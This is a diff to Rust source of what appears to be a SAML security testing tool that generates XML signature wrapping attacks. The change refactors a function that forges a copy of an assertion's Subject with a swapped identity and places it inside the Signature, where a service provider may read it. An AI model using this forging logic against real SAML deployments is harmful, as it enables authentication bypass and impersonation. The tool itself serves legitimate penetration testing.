@@ -1,11 +1,8 @@
 //! XML signature wrapping: the signed element stays intact somewhere, a forged one is where
 //! the SP reads. Shapes follow SAML Raider's XSWHelpers (USENIX'12) and the published PoCs.
 
-use crate::bytes::{
-    attr_value, before_end_tag, child, declares_own_namespace, escape, insert, qualified_name,
-    splice, Doc,
-};
-use crate::family::{cut, evil_id, forged, Parts};
+use crate::bytes::{attr_value, before_end_tag, child, escape, insert, splice, Doc};
+use crate::family::{evil_id, forged, Parts};
 use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
 use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
@@ -155,22 +152,9 @@ pub fn subject_in_signature(f: &Forge) -> Result<Forged, Skip> {
             "the Signature follows the Subject, so a copy inside it would not be read first".into(),
         ));
     }
-    let (edits, swap) = identity::rewrite_edits(&doc, subject.range(), &identity::forger(&doc));
-    if swap.forged.is_empty() {
-        return Err(Skip::NotApplicable(
-            "the Subject carries no identity value to forge".into(),
-        ));
-    }
-    let mut copy = cut(doc.src, subject.range(), edits);
-    if !declares_own_namespace(doc.src, subject) {
-        // Inside ds:Signature another default namespace is in scope: declare the Subject's.
-        let name = qualified_name(doc.src, subject);
-        let declaration = match name.split_once(':') {
-            Some((prefix, _)) => format!(" xmlns:{prefix}=\"{ASSERTION_NS}\""),
-            None => format!(" xmlns=\"{ASSERTION_NS}\""),
-        };
-        copy.insert_str(1 + name.len(), &declaration);
-    }
+    // Forged, and declaring the namespaces it inherits (inside ds:Signature another default
+    // namespace is in scope).
+    let (copy, swap) = crate::mutate::copy_of(&doc, subject, true, crate::mutate::IdChange::Keep)?;
     let object = format!("<ds:Object xmlns:ds=\"{DSIG_NS}\">{copy}</ds:Object>");
     forged(
         p.splice_unsigned_response(vec![insert(before_end_tag(doc.src, sig), object)]),
